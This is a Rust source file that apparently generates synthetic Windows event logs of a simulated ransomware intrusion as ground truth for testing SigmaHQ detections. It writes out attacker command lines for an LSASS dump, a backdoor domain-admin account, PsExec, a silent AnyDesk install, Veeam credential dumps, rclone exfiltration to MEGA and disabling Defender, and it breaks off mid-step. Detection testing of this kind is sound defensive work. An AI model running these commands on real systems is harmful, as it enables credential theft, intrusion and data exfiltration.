//! The 13 attack steps, as the logs of each host show them.
//!
//! Every command line, image path and field value here was checked against
//! the detection of the SigmaHQ rule that scenario.md names for the step
//! (see [`crate::truth::STEPS`]); the comments say which selection each
//! value satisfies. Events are stamped with their step number so that the
//! ground truth can point at them by file and record.

use rand::Rng;

use crate::clock::{Us, MIN, SEC};
use crate::host::{Account, HostGen, Proc, SYSTEM_USER};
use crate::noise::{rdp_logon_events, session_start, Ctx};
use crate::org::{ATTACKER_VPN_IP, ATTACKER_WORKSTATION, DOMAIN_SID};
use crate::winevt::{Channel, Payload, Provider, V};

pub const C2_IP: &str = "203.0.113.77";
pub const C2_NAME: &str = "cdn.update-msoffice.com";
pub const ANYDESK_RELAY: &str = "relay-4f7c21a8.net.anydesk.com";
pub const ANYDESK_RELAY_IP: &str = "192.0.2.141";
pub const MEGA_API: &str = "g.api.mega.co.nz";
pub const MEGA_STORAGE: &[(&str, &str)] = &[
    ("gfs214n102.userstorage.mega.co.nz", "203.0.113.131"),
    ("gfs262n317.userstorage.mega.co.nz", "203.0.113.132"),
    ("gfs270n171.userstorage.mega.co.nz", "203.0.113.133"),
];
pub const RDS_IP: &str = "10.0.10.24";
pub const GPO_GUID: &str = "{7B5C3E2A-9D41-4F6B-8C2E-5A1D3F9E7B60}";
pub const RANSOM_NOTE: &str = "LISEZ-MOI-PABCRYPT.txt";
pub const ENCRYPTOR: &str = "C:\\Windows\\Temp\\maj.exe";

/// Hosts attacked in steps 7-9 by lateral movement.
pub const LATERAL_TARGETS: &[&str] = &["SRV-FIC01", "SRV-BKP01", "SRV-APP01", "SRV-SOC01"];

/// Attack facts every host needs.
pub struct Plan {
    /// Hosts the GPO of step 11 reached (domain members powered on).
    pub gpo_reached: Vec<String>,
}

impl Plan {
    pub fn reached(&self, name: &str) -> bool {
        self.gpo_reached.iter().any(|h| h == name)
    }
}

fn presta(g: &HostGen) -> Account {
    Account::of(g.org.user("presta.maint"))
}

fn backdoor() -> Account {
    Account {
        name: "svc_sauvegarde".into(),
        domain: "CCPAB".into(),
        sid: format!("{DOMAIN_SID}-1451"),
        admin: true,
    }
}

/// Adds the attack events that concern this host.
pub fn host(g: &mut HostGen, ctx: &Ctx, plan: &Plan) {
    let name = g.host.name.clone();
    match name.as_str() {
        "SRV-RDS01" => rds(g, ctx),
        "DC01" => dc01(g, ctx),
        _ => {}
    }
    if LATERAL_TARGETS.contains(&name.as_str()) {
        step7_target(g, ctx);
    }
    if name == "SRV-BKP01" {
        step8(g, ctx);
    }
    if name == "SRV-FIC01" {
        step9(g, ctx);
    }
    if g.host.is_server() {
        step10(g, ctx);
    }
    if plan.reached(&name) {
        step11_endpoint(g, ctx);
        step12(g, ctx);
    }
    if name == "AQUA-CAISSE01" {
        step13(g, ctx);
    }
    g.step = 0;
}

/// RDP into SRV-RDS01 through the VPN (a new session each night).
fn attacker_rdp(g: &mut HostGen, t: Us, reconnect: bool) -> (Proc, String) {
    let who = presta(g);
    rdp_logon_events(g, t, &who, ATTACKER_VPN_IP);
    if reconnect {
        g.push(
            t + 2 * SEC,
            Channel::RdpLocalSession,
            Provider::RdpLocalSession,
            25,
            vec![
                ("User", who.qualified().into()),
                ("SessionID", 2i64.into()),
                ("Address", ATTACKER_VPN_IP.into()),
            ],
        )
        .payload = Payload::UserData {
            element: "EventXML",
            xmlns: "Event_NS",
        };
    }
    // Private VPN address: "External Remote RDP Logon from Public IP"
    // filters 10.0.0.0/8 and must stay silent.
    session_start(
        g,
        t + 3 * SEC,
        &who,
        10,
        ATTACKER_VPN_IP,
        ATTACKER_WORKSTATION,
    )
}

fn cmd_of(g: &mut HostGen, t: Us, parent: &Proc) -> Proc {
    let user = parent.user.clone();
    let lid = parent.logon_id.clone();
    let home = format!("C:\\Users\\{}\\", user.rsplit('\\').next().unwrap_or(""));
    g.proc(
        t,
        parent,
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" ",
        &user,
        &lid,
        "High",
        &home,
    )
}

fn run(g: &mut HostGen, t: Us, parent: &Proc, image: &str, cmd: &str) -> Proc {
    let user = parent.user.clone();
    let lid = parent.logon_id.clone();
    let home = format!("C:\\Users\\{}\\", user.rsplit('\\').next().unwrap_or(""));
    let integrity = if user == SYSTEM_USER {
        "System"
    } else {
        "High"
    };
    g.proc(t, parent, image, cmd, &user, &lid, integrity, &home)
}

fn rds(g: &mut HostGen, ctx: &Ctx) {
    let tl = ctx.tl;
    // Step 2: remote desktop from the VPN address.
    g.step = 2;
    let (explorer, _lid) = attacker_rdp(g, tl.at(0, 2, 14, 10), false);

    // Step 3: discovery.
    g.step = 3;
    let mut t = tl.at(0, 2, 30, 5);
    let cmd = cmd_of(g, t, &explorer);
    t += 40 * SEC;
    // net.exe + ' group ' + ' /do' -> Suspicious Group And Account Reconnaissance Activity Using Net.EXE
    let net = run(
        g,
        t,
        &cmd,
        "C:\\Windows\\System32\\net.exe",
        "net  group \"Admins du domaine\" /domain",
    );
    run(
        g,
        t + 20_000,
        &net,
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  group \"Admins du domaine\" /domain",
    );
    t += 65 * SEC;
    // nltest.exe + 'dclist:' -> Potential Recon Activity Via Nltest.EXE
    run(
        g,
        t,
        &cmd,
        "C:\\Windows\\System32\\nltest.exe",
        "nltest  /dclist:ccpab.local",
    );
    t += 3 * MIN;
    // 'objectcategory=' -> PUA - AdFind Suspicious Execution
    let adfind = run(
        g,
        t,
        &cmd,
        "C:\\Users\\presta.maint\\Downloads\\AdFind.exe",
        "AdFind.exe  -f objectcategory=computer -csv name dNSHostName operatingSystem",
    );
    g.net(
        t + SEC,
        &adfind,
        "tcp",
        "10.0.10.10",
        389,
        "DC01.ccpab.local",
        true,
    );
    g.file(
        t + 4 * SEC,
        &cmd,
        "C:\\Users\\presta.maint\\Downloads\\ad_computers.csv",
    );
    t += 6 * MIN;
    // Image contains '\advanced_ip_scanner', '/portable' + '/lng' -> PUA - Advanced IP Scanner Execution
    let scanner_img = "C:\\Users\\presta.maint\\AppData\\Local\\Temp\\Advanced IP Scanner 2\\advanced_ip_scanner.exe";
    let scanner = run(
        g,
        t,
        &explorer,
        scanner_img,
        &format!("\"{scanner_img}\" /portable \"C:/Users/presta.maint/Downloads/\" /lng fr_fr"),
    );
    for (i, ip) in [
        "10.0.10.10",
        "10.0.10.11",
        "10.0.10.20",
        "10.0.10.21",
        "10.0.10.22",
        "10.0.10.23",
        "10.0.11.10",
        "10.0.30.10",
        "10.0.30.11",
    ]
    .iter()
    .enumerate()
    {
        g.net(t + (5 + i as i64) * SEC, &scanner, "tcp", ip, 445, "", true);
        g.net(
            t + (5 + i as i64) * SEC + 300_000,
            &scanner,
            "tcp",
            ip,
            3389,
            "",
            true,
        );
    }
    g.logoff(tl.at(0, 3, 34, 0), &presta(g), &explorer.logon_id, 10);

    // Step 4: persistence (AnyDesk) and C2 (Cobalt Strike beacon).
    g.step = 4;
    let (explorer, _) = attacker_rdp(g, tl.at(1, 3, 1, 30), true);
    let mut t = tl.at(1, 3, 5, 12);
    let cmd = cmd_of(g, t, &explorer);
    t += 30 * SEC;
    // '--install' + '--start-with-win' + '--silent' -> Remote Access Tool - AnyDesk Silent Installation
    run(g, t, &cmd, "C:\\Users\\presta.maint\\Downloads\\AnyDesk.exe", "C:\\Users\\presta.maint\\Downloads\\AnyDesk.exe  --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent");
    let anydesk_img = "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe";
    g.file(t + 2 * SEC, &cmd, anydesk_img);
    // ImagePath contains 'AnyDesk' -> Anydesk Remote Access Software Service Installation
    let sid = presta(g).sid;
    g.service_installed(
        t + 4 * SEC,
        "AnyDesk Service",
        "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service",
        "démarrage automatique",
        "LocalSystem",
        &sid,
    );
    g.service_state(t + 5 * SEC, "AnyDesk Service", true);
    let services = g.services.clone();
    let svc = g.proc(
        t + 5 * SEC,
        &services,
        anydesk_img,
        "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service",
        SYSTEM_USER,
        "0x3e7",
        "System",
        "C:\\Windows\\system32\\",
    );
    // QueryName endswith 'net.anydesk.com', non-browser -> DNS Query To Remote Access Software Domain From Non-Browser App
    g.dns(t + 7 * SEC, &svc, ANYDESK_RELAY, ANYDESK_RELAY_IP);
    g.dns(
        t + 7 * SEC + 400_000,
        &svc,
        "boot.net.anydesk.com",
        "192.0.2.142",
    );
    g.net(
        t + 8 * SEC,
        &svc,
        "tcp",
        ANYDESK_RELAY_IP,
        443,
        ANYDESK_RELAY,
        true,
    );
    t += 12 * MIN;
    let beacon_img = "C:\\ProgramData\\Intel\\igfxsrvc64.exe";
    g.file(t - 20 * SEC, &cmd, beacon_img);
    let beacon = run(
        g,
        t,
        &cmd,
        beacon_img,
        "C:\\ProgramData\\Intel\\igfxsrvc64.exe",
    );
    // PipeName '\MSSE-<n>-server' -> CobaltStrike Named Pipe
    g.pipe(t + 2 * SEC, &beacon, "\\MSSE-4172-server");
    g.dns(t + 3 * SEC, &beacon, C2_NAME, C2_IP);
    // Beaconing until the end, a few connections an hour.
    let mut tb = t + 4 * SEC;
    let end = tl.end();
    while tb < end {
        g.net(tb, &beacon, "tcp", C2_IP, 443, C2_NAME, true);
        tb += g.rng.gen_range(15..45) * MIN;
    }
    g.pipe(t + 50 * MIN, &beacon, "\\postex_8b2c");

    // Step 5: LSASS dump via comsvcs, then Kerberoasting (on DC01).
    g.step = 5;
    let (explorer, _) = attacker_rdp(g, tl.at(2, 2, 35, 40), true);
    let t = tl.at(2, 2, 40, 3);
    let cmd = cmd_of(g, t, &explorer);
    let lsass_pid = g.lsass.pid;
    // rundll32 + 'comsvcs' + 'full' + 'MiniDump' -> Process Memory Dump Via Comsvcs.DLL
    let rundll = run(g, t + 25 * SEC, &cmd, "C:\\Windows\\System32\\rundll32.exe", &format!("rundll32.exe  C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Windows\\Temp\\lsass.dmp full"));
    let lsass = g.lsass.clone();
    // Target lsass, source rundll32, CallTrace with comsvcs.dll -> Lsass Memory Dump via Comsvcs DLL
    g.access(t + 25 * SEC + 150_000, &rundll, &lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+4e3f4|C:\\Windows\\System32\\comsvcs.dll+4b7a1|C:\\Windows\\System32\\rundll32.exe+3bd4|C:\\Windows\\System32\\KERNEL32.DLL+17344|C:\\Windows\\SYSTEM32\\ntdll.dll+526b1");
    // TargetFilename '\lsass' + '.dmp' -> LSASS Process Memory Dump Files
    g.file(t + 27 * SEC, &rundll, "C:\\Windows\\Temp\\lsass.dmp");

    // Step 6: from SRV-RDS01 to DC01 as adm.tech01 (mstsc).
    g.step = 6;
    let t = tl.at(2, 3, 18, 0);
    let mstsc = run(
        g,
        t,
        &explorer,
        "C:\\Windows\\System32\\mstsc.exe",
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:DC01.ccpab.local",
    );
    let adm = Account::of(g.org.user("adm.tech01"));
    let me = presta(g);
    g.explicit_creds(
        t + 15 * SEC,
        &mstsc,
        &me,
        &adm,
        "DC01.ccpab.local",
        "10.0.10.10",
        "3389",
    );

    // Step 7: PsExec from SRV-RDS01 to the servers.
    g.step = 7;
    let (explorer, _) = attacker_rdp(g, tl.at(3, 1, 25, 0), true);
    let cmd = cmd_of(g, tl.at(3, 1, 29, 0), &explorer);
    for (i, target) in LATERAL_TARGETS.iter().enumerate() {
        let t = psexec_time(ctx, i);
        let p = run(g, t - 2 * SEC, &cmd, "C:\\Users\\presta.maint\\Downloads\\PsExec64.exe", &format!("PsExec64.exe  \\\\{target} -accepteula -u CCPAB\\svc_sauvegarde -p ******** -s cmd.exe"));
        let ip = g.org.host(target).ip.clone();
        let me = presta(g);
        g.explicit_creds(
            t - SEC - 200_000,
            &p,
            &me,
            &backdoor(),
            &format!("{target}.ccpab.local"),
            &ip,
            "445",
        );
        g.net(
            t - SEC,
            &p,
            "tcp",
            &ip,
            445,
            &format!("{target}.ccpab.local"),
            true,
        );
    }

    // Step 8: RDP to SRV-BKP01 (mstsc from here).
    g.step = 8;
    let (explorer, _) = attacker_rdp(g, tl.at(4, 2, 5, 0), true);
    run(
        g,
        tl.at(4, 2, 9, 0),
        &explorer,
        "C:\\Windows\\System32\\mstsc.exe",
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:SRV-BKP01.ccpab.local",
    );

    // Step 9: RDP to SRV-FIC01.
    g.step = 9;
    let (explorer, _) = attacker_rdp(g, tl.at(5, 21, 50, 0), true);
    run(
        g,
        tl.at(5, 21, 54, 0),
        &explorer,
        "C:\\Windows\\System32\\mstsc.exe",
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:SRV-FIC01.ccpab.local",
    );

    // Step 10 (SRV-RDS01 itself) is in step10(); the GPO is written
    // from here on D0 (step 11): the attacker's session.
    g.step = 11;
    let (explorer, _) = attacker_rdp(g, tl.at(6, 23, 10, 0), true);
    run(
        g,
        tl.at(7, 0, 40, 0),
        &explorer,
        "C:\\Windows\\System32\\mmc.exe",
        "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\gpmc.msc\"",
    );
}

fn psexec_time(ctx: &Ctx, i: usize) -> Us {
    ctx.tl.at(3, 1, 30, 0) + i as i64 * 7 * MIN
}

fn dc01(g: &mut HostGen, ctx: &Ctx) {
    let tl = ctx.tl;
    let who = presta(g);
    // Step 1: the VPN authenticates against AD (LDAP bind from FW01):
    // three failures, then the Kerberos TGT of the RDP logon.
    g.step = 1;
    for (i, s) in [3i64, 21, 40].iter().enumerate() {
        let t = tl.at(0, 2, 10, *s) + i as i64 * 120_000;
        g.logon_failed(
            t,
            "presta.maint",
            3,
            crate::org::FW_INSIDE_IP,
            "FW01",
            "0xc000006d",
            "0xc000006a",
        );
    }
    g.tgt(tl.at(0, 2, 14, 8), &who, RDS_IP);

    // Step 5: Kerberoasting: RC4 service ticket for svc_veeam.
    g.step = 5;
    let veeam = g.org.user("svc_veeam").sid();
    // Status 0x0, TicketEncryptionType 0x17, TicketOptions 0x40810000,
    // ServiceName not ending in '$' -> Kerberoasting Activity - Initial Query,
    // Suspicious Kerberos RC4 Ticket Encryption
    g.tgs(
        tl.at(2, 2, 52, 17),
        &who,
        "svc_veeam",
        &veeam,
        RDS_IP,
        "0x40810000",
        "0x17",
    );

    // Step 6: adm.tech01 (credentials from the LSASS dump) on DC01 creates
    // the backdoor account and makes it a domain admin.
    g.step = 6;
    let adm = Account::of(g.org.user("adm.tech01"));
    let t = tl.at(2, 3, 18, 20);
    rdp_logon_events(g, t, &adm, RDS_IP);
    let (explorer, lid) = session_start(g, t + 2 * SEC, &adm, 10, RDS_IP, "SRV-RDS01");
    let cmd = cmd_of(g, t + 2 * MIN, &explorer);
    let t = t + 3 * MIN;
    // net.exe + 'user' + 'add' -> New User Created Via Net.EXE
    let net = run(
        g,
        t,
        &cmd,
        "C:\\Windows\\System32\\net.exe",
        "net  user svc_sauvegarde Sauv#2026!ccpab /add /domain",
    );
    run(
        g,
        t + 30_000,
        &net,
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  user svc_sauvegarde Sauv#2026!ccpab /add /domain",
    );
    let bd = backdoor();
    let subj = |d: &mut Vec<(&'static str, V)>| {
        d.push(("SubjectUserSid", adm.sid.clone().into()));
        d.push(("SubjectUserName", adm.name.clone().into()));
        d.push(("SubjectDomainName", adm.domain.clone().into()));
        d.push(("SubjectLogonId", lid.clone().into()));
    };
    let mut d = vec![
        ("TargetUserName", V::from(bd.name.clone())),
        ("TargetDomainName", "CCPAB".into()),
        ("TargetSid", bd.sid.clone().into()),
    ];
    subj(&mut d);
    d.extend([
        ("PrivilegeList", V::from("-")),
        ("SamAccountName", "svc_sauvegarde".into()),
        ("DisplayName", "%%1793".into()),
        ("UserPrincipalName", "-".into()),
        ("HomeDirectory", "%%1793".into()),
        ("HomePath", "%%1793".into()),
        ("ScriptPath", "%%1793".into()),
        ("ProfilePath", "%%1793".into()),
        ("UserWorkstations", "%%1793".into()),
        ("PasswordLastSet", "%%1794".into()),
        ("AccountExpires", "%%1794".into()),
        ("PrimaryGroupId", "513".into()),
        ("AllowedToDelegateTo", "-".into()),
        ("OldUacValue", "0x0".into()),
        ("NewUacValue", "0x15".into()),
        (
            "UserAccountControl",
            "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084".into(),
        ),
        ("UserParameters", "%%1793".into()),
        ("SidHistory", "-".into()),
        ("LogonHours", "%%1797".into()),
    ]);
    // EventID 4720 -> Local User Creation
    g.push(
        t + 200_000,
        Channel::Security,
        Provider::SecurityAuditing,
        4720,
        d,
    );
    let mut d = vec![
        ("TargetUserName", V::from(bd.name.clone())),
        ("TargetDomainName", "CCPAB".into()),
        ("TargetSid", bd.sid.clone().into()),
    ];
    subj(&mut d);
    g.push(
        t + 250_000,
        Channel::Security,
        Provider::SecurityAuditing,
        4722,
        d,
    );
    let t2 = t + 75 * SEC;
    // ' /add' present: the recon rule's filter keeps it silent, as in reality.
    let net = run(
        g,
        t2,
        &cmd,
        "C:\\Windows\\System32\\net.exe",
        "net  group \"Admins du domaine\" svc_sauvegarde /add /domain",
    );
    run(
        g,
        t2 + 30_000,
        &net,
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  group \"Admins du domaine\" svc_sauvegarde /add /domain",
    );
    let mut d = vec![
        (
            "MemberName",
            V::from("CN=svc_sauvegarde,CN=Users,DC=ccpab,DC=local"),
        ),
        ("MemberSid", bd.sid.clone().into()),
        ("TargetUserName", "Admins du domaine".into()),
        ("TargetDomainName", "CCPAB".into()),
        ("TargetSid", format!("{DOMAIN_SID}-512").into()),
    ];
    subj(&mut d);
    d.push(("PrivilegeList", "-".into()));
    // EventID 4728 -> A Member Was Added to a Security-Enabled Global Group
    g.push(
        t2 + 200_000,
        Channel::Security,
        Provider::SecurityAuditing,
        4728,
        d,
    );
    g.logoff(t2 + 6 * MIN, &adm, &lid, 10);

    // Step 7: Kerberos for the PsExec connections of svc_sauvegarde.
    g.step = 7;
    g.tgt(psexec_time(ctx, 0) - 3 * SEC, &bd, RDS_IP);
    for (i, target) in LATERAL_TARGETS.iter().enumerate() {
        let h = g.org.host(target);
        let (rid, name) = (h.rid, h.name.clone());
        g.tgs(
            psexec_time(ctx, i) - 2 * SEC,
            &bd,
            &format!("{name}$"),
            &format!("{DOMAIN_SID}-{rid}"),
            RDS_IP,
            "0x40810000",
            "0x12",
        );
    }

    // Step 11: the GPO "Mise a jour securite" with an immediate scheduled
    // task, written from SRV-RDS01 by svc_sauvegarde.
    g.step = 11;
    let t = tl.at(7, 0, 45, 10);
    let lid = g.logon(t - 5 * SEC, &bd, 3, RDS_IP, "SRV-RDS01", "-", "Kerberos");
    let dn = format!("CN={GPO_GUID},CN=Policies,CN=System,DC=ccpab,DC=local");
    for (i, (attr, value)) in [
        ("displayName", "Mise a jour securite".to_string()),
        // gPCMachineExtensionNames with the scheduled-tasks CSE GUIDs ->
        // Persistence and Execution at Scale via GPO Scheduled Task
        ("gPCMachineExtensionNames", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]".to_string()),
    ]
    .iter()
    .enumerate()
    {
        let mut d = vec![
            ("OpCorrelationID", V::from("{a3f1c6d2-7e4b-4c1a-9f2d-5b8e0c7a6d31}")),
            ("AppCorrelationID", "-".into()),
            ("SubjectUserSid", bd.sid.clone().into()),
            ("SubjectUserName", bd.name.clone().into()),
            ("SubjectDomainName", "CCPAB".into()),
            ("SubjectLogonId", lid.clone().into()),
            ("DSName", "ccpab.local".into()),
            ("DSType", "%%14676".into()),
            ("ObjectDN", dn.clone().into()),
            ("ObjectGUID", "{5e2a9c1b-3f7d-4b8e-a6c0-1d9f4e7b2a58}".into()),
            ("ObjectClass", "groupPolicyContainer".into()),
            ("AttributeLDAPDisplayName", (*attr).into()),
            ("AttributeSyntaxOID", "2.5.5.12".into()),
            ("AttributeValue", value.clone().into()),
            ("OperationType", "%%14674".into()),
        ];
        d.shrink_to_fit();
        g.push(t + i as i64 * 4 * SEC, Channel::Security, Provider::SecurityAuditing, 5136, d);
    }
    // SYSVOL + ScheduledTasks.xml + WriteData (%%4417) -> same rule
    g.share_check(
        t + 6 * SEC,
        &bd,
        &lid,
        RDS_IP,
        "SYSVOL",
        "C:\\Windows\\SYSVOL\\sysvol",
        &format!("ccpab.local\\Policies\\{GPO_GUID}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"),
        "0x116",
        "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4424\n\t\t\t\t",
    );
    g.share_check(
        t + 7 * SEC,
        &bd,
        &lid,
        RDS_IP,
        "NETLOGON",
        "C:\\Windows\\SYSVOL\\sysvol\\ccpab.local\\SCRIPTS",
        "maj.exe",
        "0x116",
        "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4424\n\t\t\t\t",
    );
    g.logoff(t + 2 * MIN, &bd, &lid, 3);
}

/// Step 7 on a target: PsExec's footprint (ADMIN$, PSEXESVC service).
fn step7_target(g: &mut HostGen, ctx: &Ctx) {
    g.step = 7;
    let i = LATERAL_TARGETS
        .iter()
        .position(|n| *n == g.host.name)
        .expect("target");
    let t = psexec_time(ctx, i);
    let bd = backdoor();
    let lid = g.logon(t, &bd, 3, RDS_IP, "SRV-RDS01", "-", "NTLM");
    g.share_access(t + 100_000, &bd, &lid, RDS_IP, "ADMIN$", "C:\\Windows");
    // PsExec copies its service into ADMIN$ (not C$).
    g.share_check(
        t + 150_000,
        &bd,
        &lid,
        RDS_IP,
        "ADMIN$",
        "C:\\Windows",
        "PSEXESVC.exe",
        "0x2",
        "%%4417\n\t\t\t\t",
    );
    let system = g.system.clone();
    g.file(t + 200_000, &system, "C:\\Windows\\PSEXESVC.exe");
    // ServiceName PSEXESVC -> PsExec Service Installation
    g.service_installed(
        t + 400_000,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        "démarrage à la demande",
        "LocalSystem",
        &bd.sid,
    );
    g.service_state(t + 500_000, "PSEXESVC", true);
    let services = g.services.clone();
    // Image C:\Windows\PSEXESVC.exe -> PsExec Service Execution
    let svc = g.proc(
        t + 500_000,
        &services,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        SYSTEM_USER,
        "0x3e7",
        "System",
        "C:\\Windows\\system32\\",
    );
    // C:\Windows\PSEXEC-*.key -> PSEXEC Remote Execution File Artefact
    g.file(
        t + 700_000,
        &svc,
        "C:\\Windows\\PSEXEC-SRV-RDS01-6A3F21C9.key",
    );
    for pipe in [
        "\\PSEXESVC",
        "\\PSEXESVC-SRV-RDS01-5012-stdin",
        "\\PSEXESVC-SRV-RDS01-5012-stdout",
        "\\PSEXESVC-SRV-RDS01-5012-stderr",
    ] {
        g.pipe(t + 800_000, &svc, pipe);
    }
    // ParentImage PSEXESVC.exe, User 'AUTORITE NT\…' -> PsExec Service Child Process Execution as LOCAL SYSTEM
    let cmd = g.proc(
        t + SEC,
        &svc,
        "C:\\Windows\\System32\\cmd.exe",
        "\"cmd.exe\" ",
        SYSTEM_USER,
        "0x3e7",
        "System",
        "C:\\Windows\\system32\\",
    );
    run(
        g,
        t + 20 * SEC,
        &cmd,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami",
    );
    run(
        g,
        t + 45 * SEC,
        &cmd,
        "C:\\Windows\\System32\\ipconfig.exe",
        "ipconfig  /all",
    );
    g.service_state(t + 4 * MIN, "PSEXESVC", false);
    g.logoff(t + 4 * MIN + SEC, &bd, &lid, 3);
}

/// An RDP session of the backdoor account from SRV-RDS01; returns cmd.exe.
fn backdoor_rdp(g: &mut HostGen, t: Us) -> (Proc, String) {
    let bd = backdoor();
    rdp_logon_events(g, t, &bd, RDS_IP);
    let (explorer, lid) = session_start(g, t + 2 * SEC, &bd, 10, RDS_IP, "SRV-RDS01");
    let cmd = cmd_of(g, t + 90 * SEC, &explorer);
    (cmd, lid)
}

fn step8(g: &mut HostGen, ctx: &Ctx) {
    g.step = 8;
    let (cmd, lid) = backdoor_rdp(g, ctx.tl.at(4, 2, 9, 20));
    let sqlcmd =
        "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE";
    let t = ctx.tl.at(4, 2, 15, 0);
    // 'VeeamBackup' + 'From ' + 'BackupRepositories' -> Veeam Backup Database Suspicious Query
    run(g, t, &cmd, sqlcmd, &format!("\"{sqlcmd}\" -S localhost\\VEEAMSQL2016 -E -Q \"SELECT name, path FROM [VeeamBackup].[dbo].[BackupRepositories]\""));
    // sqlcmd + 'SELECT' + 'TOP' + '[VeeamBackup].[dbo].[Credentials]' -> VeeamBackup Database Credentials Dump Via Sqlcmd.EXE (and the query rule)
    run(g, t + 50 * SEC, &cmd, sqlcmd, &format!("\"{sqlcmd}\" -S localhost\\VEEAMSQL2016 -E -Q \"SELECT TOP (1000) [id],[user_name],[password],[usn],[description],[visible],[change_time_utc] FROM [VeeamBackup].[dbo].[Credentials]\" -o C:\\Users\\svc_sauvegarde\\creds.txt"));
    g.file(t + 52 * SEC, &cmd, "C:\\Users\\svc_sauvegarde\\creds.txt");
    g.logoff(t + 20 * MIN, &backdoor(), &lid, 10);
}

fn step9(g: &mut HostGen, ctx: &Ctx) {
    g.step = 9;
    let (cmd, lid) = backdoor_rdp(g, ctx.tl.at(5, 21, 54, 30));
    let t = ctx.tl.at(5, 22, 0, 0);
    g.file(t - 30 * SEC, &cmd, "C:\\ProgramData\\rar.exe");
    // rar.exe + ' a ' -> Files Added To An Archive Using Rar.EXE
    let rar = run(g, t, &cmd, "C:\\ProgramData\\rar.exe", "C:\\ProgramData\\rar.exe  a -hpPab#Exfil2026 -m1 -v20g -r D:\\Temp\\cias.rar D:\\Partages\\CIAS");
    for part in 1..=8 {
        g.file(
            t + part * 4 * MIN,
            &rar,
            &format!("D:\\Temp\\cias.part{part}.rar"),
        );
    }
    let t = ctx.tl.at(5, 22, 41, 0);
    g.file(t - 60 * SEC, &cmd, "C:\\ProgramData\\rclone.exe");
    g.file(t - 50 * SEC, &cmd, "C:\\ProgramData\\rclone.conf");
    // rclone.exe + 'copy'/'mega' -> PUA - Rclone Execution
    let rclone = run(g, t, &cmd, "C:\\ProgramData\\rclone.exe", "C:\\ProgramData\\rclone.exe  copy D:\\Temp\\ mega:ccpab-cias --transfers 8 --multi-thread-streams 4 --ignore-existing --config C:\\ProgramData\\rclone.conf --no-check-certificate -q");
    // QueryName contains 'userstorage.mega.co.nz' -> DNS Query To MEGA Hosting Website
    g.dns(t + 2 * SEC, &rclone, MEGA_API, "203.0.113.130");
    g.net(
        t + 2 * SEC + 200_000,
        &rclone,
        "tcp",
        "203.0.113.130",
        443,
        MEGA_API,
        true,
    );
    for (i, (name, ip)) in MEGA_STORAGE.iter().enumerate() {
        let tt = t + (5 + i as i64 * 7) * SEC;
        g.dns(tt, &rclone, name, ip);
        // Initiated true + DestinationHostname endswith 'mega.co.nz' -> Network Connection Initiated To Mega.nz
        g.net(tt + 150_000, &rclone, "tcp", ip, 443, name, true);
    }
    g.logoff(ctx.tl.at(6, 17, 5, 0), &backdoor(), &lid, 10);
}

/// Step 10 on every server: Defender real-time protection switched off.
fn step10(g: &mut HostGen, ctx: &Ctx) {
    g.step = 10;
    let t = ctx.tl.at(6, 23, 30, 0) + g.host.index as i64 * 40 * SEC;
    let bd = backdoor();
    let lid = g.logon(t - 3 * SEC, &bd, 3, RDS_IP, "SRV-RDS01", "-", "Kerberos");
    let services = g.services.clone();
    let wmi = g.proc(
        t - 2 * SEC,
        &services,
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        crate::host::NETWORK_SERVICE_USER,
        "0x3e4",
        "System",
        "C:\\Windows\\system32\\",
    );
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let text = "Set-MpPreference -DisableRealtimeMonitoring $true";
    g.proc(
        t,
        &wmi,
        ps,
        &format!("powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"{text}\""),
        "CCPAB\\svc_sauvegarde",
        &lid,
        "High",
        "C:\\Windows\\system32\\",
    );
    // 'Set-MpPreference' + '-DisableRealtimeMonitoring $true' -> Tamper Windows Defender - ScriptBlockLogging
    g.script_block(t + 900_000, &bd.sid, text, "", true);
    let mpeng = crate::host::Proc {
        guid: format!(
            "{:08X}-0000-0000-0002-000000000800",
            crate::org::fnv(&g.host.name) >> 32
        ),
        pid: 3120,
        image:
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe"
                .into(),
        cmd: String::new(),
        user: SYSTEM_USER.into(),
        logon_id: "0x3e7".into(),
    };
    g.reg(t + SEC, &mpeng, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "DWORD (0x00000001)");
    // EventID 5001 -> Windows Defender Real-time Protection Disabled
    g.push(
        t + 1_200_000,
        Channel::Defender,
        Provider::Defender,
        5001,
        vec![
